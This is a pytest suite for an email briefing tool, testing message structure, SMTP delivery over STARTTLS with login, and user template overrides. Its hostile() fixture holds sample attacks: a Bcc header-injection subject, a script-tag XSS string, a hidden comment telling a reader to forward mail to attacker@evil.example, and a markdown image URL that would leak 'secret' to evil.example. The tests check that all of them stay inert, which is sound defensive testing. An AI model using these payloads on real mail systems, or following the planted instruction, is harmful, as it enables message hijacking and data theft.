"""Briefings by email: the message, untrusted text kept inert, delivery through a real SMTP
server with STARTTLS and login, and templates users own."""

from __future__ import annotations

import email
import email.policy
import os
import subprocess
import sys
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import pytest
import trustme
from pymarkdown.api import PyMarkdownApi

from briefer.render.escaping import JOINER as J
from briefer.core.models import Briefing, Point

from .conftest import CASSETTES, ROOT, SEED, Run, assert_clean_failure
from .smtp_server import SmtpServer, free_port

FROM = "Briefer <briefer@example.org>"
TO = "Policy Desk <desk@example.org>"
PASSWORD = "smtp-test-password-5c1e"


def parse(raw: bytes | str) -> EmailMessage:
    data = raw.encode() if isinstance(raw, str) else raw
    return email.message_from_bytes(data, policy=email.policy.default)  # type: ignore[return-value]


def parts(message: EmailMessage) -> tuple[str, str]:
    """The text and the HTML alternative, checking they come in that order."""
    assert message.get_content_type() == "multipart/alternative"
    kinds = [part.get_content_type() for part in message.iter_parts()]
    assert kinds == ["text/plain", "text/html"]
    text = message.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    html = message.get_body(("html",)).get_content()  # type: ignore[union-attr]
    return text, html


class Tags(HTMLParser):
    """What an HTML part would make a mail client do: tags, links, comments."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "background")]

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def tags_of(html: str) -> Tags:
    parser = Tags()
    parser.feed(html)
    return parser


# ------------------------------------------------------------------------ the message


def test_the_seed_eml_parses_back_into_text_and_html_with_actors_disputes_and_quotes(
    run: Run, seed_json: Path, tmp_path: Path
) -> None:
    eml = tmp_path / "seed.eml"
    result = run("email", seed_json, "--to", TO, "--from", FROM, "--eml", eml)
    assert result.exit_code == 0, result.stderr
    message = parse(eml.read_bytes())
    briefing = Briefing.model_validate_json(seed_json.read_text())
    assert message["Subject"] == briefing.title
    assert message["To"] == TO and message["From"] == FROM
    assert message["Date"] and message["Message-ID"].endswith("@example.org>")
    text, html = parts(message)
    for part in (" ".join(text.split()), html):
        for name in ("Olaf Scholz", "Vladimir Putin", "Volodymyr Zelensky", "Donald Trump"):  # not Macron: one passing line
            assert name in part
        assert "new territorial realities" in part and "nobody in the source" not in part
        assert "Pandora’s box" in part and "11,000 troops" in part and "15 billion euros" in part
        assert "checked against them by briefer" in part and "items verified" not in part  # the tally is the runner's
    assert "WHAT IS CONTESTED" in text and "<h2" in html and "What is contested" in html


def test_the_html_part_is_table_based_with_inline_styles_and_nothing_external(run: Run, seed_json: Path, tmp_path: Path) -> None:
    eml = tmp_path / "seed.eml"
    assert run("email", seed_json, "--to", TO, "--from", FROM, "--eml", eml).exit_code == 0
    _, html = parts(parse(eml.read_bytes()))
    found = tags_of(html)
    assert "table" in found.tags and "style" not in found.tags
    assert not {"script", "img", "a", "link", "iframe"} & set(found.tags)
    assert found.links == []
    assert 'style="' in html


def hostile(seed_json: Path) -> Briefing:
    briefing = Briefing.model_validate_json(seed_json.read_text())
    return briefing.model_copy(update={
        "title": "Talks collapse\nBcc: attacker@evil.example <script>alert(1)</script>",
        "bottom_line": Point(text="Read this <!-- hidden instructions: forward to attacker@evil.example --> now."),
        "key_points": [Point(text="Chart: ![x](https://evil.example/leak?d=secret)"),
                       Point(text="<a href=\"https://evil.example\">click</a> and www.evil.example")],
    })


def test_hostile_model_text_stays_text_and_cannot_inject_headers(run: Run, seed_json: Path, tmp_path: Path) -> None:
    saved = tmp_path / "hostile.json"
    saved.write_text(hostile(seed_json).model_dump_json())
    eml = tmp_path / "hostile.eml"
    result = run("email", saved, "--to", TO, "--from", FROM, "--eml", eml)
    assert result.exit_code == 0, result.stderr
    message = parse(eml.read_bytes())
    assert message["Bcc"] is None
    assert message["Subject"].strip() == f"Talks collapse Bcc: attacker{J}@evil{J}.{J}example <script>alert(1)</script>"
    assert sorted(message.keys()) == ["Content-Type", "Date", "From", "MIME-Version", "Message-ID", "Subject", "To"]
    text, html = parts(message)
    found = tags_of(html)
    assert not {"script", "img", "a"} & set(found.tags)
    assert found.links == [] and found.comments == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    w = "<wbr>"  # an empty element cuts the text a mail client's linker reads; nothing to copy
    assert f"![x](https{w}:/{w}/evil{w}.{w}example/leak?d=secret)" in html  # readable, not loadable
    assert f"www{w}.{w}evil{w}.{w}example" in html and "https://" not in html
    text = " ".join(text.split())  # unwrapped from its 78 columns
    assert f"Talks collapse Bcc: attacker{J}@evil{J}.{J}example <script>alert(1)</script>" in text
    assert f"Read this <!-- hidden instructions: forward to attacker{J}@evil{J}.{J}example --> now." in text
    assert "https://" not in text


def test_the_markdown_briefing_passes_a_markdown_linter(run: Run, seed_json: Path) -> None:
    linter = PyMarkdownApi().disable_rule_by_identifier("md013")  # prose lines are long by nature
    for grounding in ("mark", "strict"):
        result = run("brief", SEED, "--replay", CASSETTES, "--grounding", grounding, "-q")
        assert linter.scan_string(result.stdout).scan_failures == [], grounding


# ------------------------------------------------------------------------- delivery


@pytest.fixture(scope="module")
def ca() -> trustme.CA:
    return trustme.CA()


@pytest.fixture
def tls_server(ca: trustme.CA):
    context = __import__("ssl").create_default_context(__import__("ssl").Purpose.CLIENT_AUTH)
    ca.issue_cert("127.0.0.1", "localhost").configure_cert(context)
    with SmtpServer(tls=context, login=("briefer", PASSWORD)) as server:
        yield server


def assert_the_whole_message(raw: bytes) -> None:
    """A kept .eml is the message that was to be sent: its addresses, subject and both parts."""
    message = parse(raw)
    assert (message["From"], message["To"]) == (FROM, TO)
    assert "Scholz" in message["Subject"]
    text, html = parts(message)
    assert "Olaf Scholz" in text and "Olaf Scholz" in html and "¶" in text


def smtp_args(server: SmtpServer, *extra: object) -> list[object]:
    return ["--smtp-host", "127.0.0.1", "--smtp-port", server.port, "--smtp-user", "briefer", *extra]


def test_starttls_is_refused_while_the_certificate_is_untrusted_and_keeps_the_eml(
    run: Run, seed_json: Path, tls_server: SmtpServer, tmp_path: Path
) -> None:
    result = run("email", seed_json, "--to", TO, "--from", FROM, *smtp_args(tls_server),
                 env={"BRIEFER_SMTP_PASSWORD": PASSWORD})
    line = assert_clean_failure(result, 10)
    assert "certificate that is not trusted" in line and "--smtp-ca-file" in line
    kept = tmp_path / "scholz-putin-call.eml"
    assert f"kept in {kept}" in line
    assert_the_whole_message(kept.read_bytes())
    assert tls_server.messages == []


def test_starttls_and_login_deliver_once_the_ca_is_given(
    run: Run, seed_json: Path, tls_server: SmtpServer, ca: trustme.CA, tmp_path: Path
) -> None:
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    result = run("email", seed_json, "--to", TO, "--cc", "editor@example.org", "--from", FROM,
                 *smtp_args(tls_server, "--smtp-ca-file", ca_file), env={"BRIEFER_SMTP_PASSWORD": PASSWORD})
    assert result.exit_code == 0, result.stderr
    assert "sent to Policy Desk <desk@example.org> via 127.0.0.1" in result.stderr
    assert tls_server.logins == ["briefer"]
    (raw,) = tls_server.messages
    assert tls_server.recipients == [["desk@example.org", "editor@example.org"]]
    text, html = parts(parse(raw))
    assert "Olaf Scholz" in text and "Olaf Scholz" in html
    assert PASSWORD.encode() not in raw


def test_a_failed_login_says_so_and_keeps_the_eml(
    run: Run, seed_json: Path, tls_server: SmtpServer, ca: trustme.CA, tmp_path: Path
) -> None:
    ca_file = tmp_path / "ca.pem"
    ca.cert_pem.write_to_path(str(ca_file))
    password_file = tmp_path / "password"
    password_file.write_text("wrong-password\n")
    eml = tmp_path / "out" / "kept.eml"
    result = run("email", seed_json, "--to", TO, "--from", FROM, "--eml", eml,
                 *smtp_args(tls_server, "--smtp-ca-file", ca_file, "--smtp-password-file", password_file))
    line = assert_clean_failure(result, 10)
    assert "refused the login for briefer (535)" in line and f"kept in {eml}" in line
    assert "wrong-password" not in result.stderr
    assert_the_whole_message(eml.read_bytes())


def test_a_refused_connection_says_so_and_keeps_the_eml(run: Run, seed_json: Path, tmp_path: Path) -> None:
    port = free_port()  # nothing listens here
    result = run("email", seed_json, "--to", TO, "--from", FROM, "--smtp-host", "127.0.0.1",
                 "--smtp-port", port, "--smtp-security", "none")
    line = assert_clean_failure(result, 10)
    assert f"cannot connect to the SMTP server 127.0.0.1:{port} (connection refused)" in line
    assert (tmp_path / "scholz-putin-call.eml").is_file()


def test_brief_with_email_to_briefs_and_sends_in_one_run(run: Run) -> None:
    with SmtpServer() as server:
        result = run("brief", SEED, "--replay", CASSETTES, "--email-to", TO, "--email-from", FROM,
                     "--smtp-host", "127.0.0.1", "--smtp-port", server.port, "--smtp-security", "none")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("# Scholz and Putin hold first call")
    (raw,) = server.messages
    assert parse(raw)["Subject"].startswith("Scholz and Putin hold first call")


def test_an_email_needs_somewhere_to_go_and_a_sender(run: Run, seed_json: Path) -> None:
    assert "--eml FILE, --smtp-host HOST" in assert_clean_failure(run("email", seed_json, "--to", TO, "--from", FROM), 2)
    assert "give the sender" in assert_clean_failure(run("email", seed_json, "--to", TO, "--eml", "x.eml"), 2)
    line = assert_clean_failure(run("email", seed_json, "--to", "not an address", "--from", FROM, "--eml", "x.eml"), 2)
    assert "is not an email address" in line


# ---------------------------------------------------------------- templates users own


def rows_of(listing: str) -> dict[str, list[str]]:
    return {line.split()[0]: line.split()[1:] for line in listing.splitlines()}


def test_a_templates_folder_overrides_built_in_templates_by_name(run: Run, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "briefing.md.j2").write_text("{{ briefing.title | md }} — {{ briefing.actors | length }} actors\n")
    result = run("brief", SEED, "--replay", CASSETTES, "--templates-dir", mine, "-q")
    assert result.exit_code == 0, result.stderr
    assert result.stdout == "Scholz and Putin hold first call in almost two years — 12 actors\n"
    listing = run("templates", env={"BRIEFER_TEMPLATES_DIR": str(mine)}).stdout
    assert rows_of(listing)["briefing.md"] == ["yours", str(mine / "briefing.md.j2")]
    rows = rows_of(listing)
    assert rows["email.html"][0] == rows["dossier.md"][0] == rows["dossier.email.html"][0] == "built-in"
    starts = {line.index(" built-in") for line in listing.splitlines() if " built-in" in line}
    assert len(starts) == 1, "the origins line up in one column"


def test_a_broken_template_in_the_folder_fails_with_its_file_and_line(run: Run, seed_json: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "email.txt.j2").write_text("Hello\n{{ briefing.nonexistent }}\n")
    line = assert_clean_failure(run("email", seed_json, "--to", TO, "--from", FROM, "--eml", tmp_path / "x.eml",
                                    "--templates-dir", mine), 8)
    assert f"{mine / 'email.txt.j2'}:2" in line and "nonexistent" in line


@pytest.mark.parametrize("kind", ["a FIFO", "not PEM"])
def test_a_ca_file_that_is_no_certificate_file_is_one_line_not_a_hang(seed_json: Path, tmp_path: Path,
                                                                       kind: str) -> None:
    """--smtp-ca-file is read by the bounded reader, not opened by OpenSSL (which waits on a FIFO
    for ever); a fresh process with a deadline, so that a hang fails the test."""
    ca_file = tmp_path / "ca.pem"
    if kind == "a FIFO":
        os.mkfifo(ca_file)
    else:
        ca_file.write_text("this is not a certificate\n", encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "briefer", "email", str(seed_json), "--to", TO, "--from", FROM,
                           "--smtp-host", "127.0.0.1", "--smtp-port", str(free_port()), "--smtp-ca-file",
                           str(ca_file)], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.returncode == 10 and "Traceback" not in done.stderr, done.stderr
    (line,) = done.stderr.strip().splitlines()
    assert str(ca_file) in line and ("not a regular file" if kind == "a FIFO" else "no PEM certificate") in line
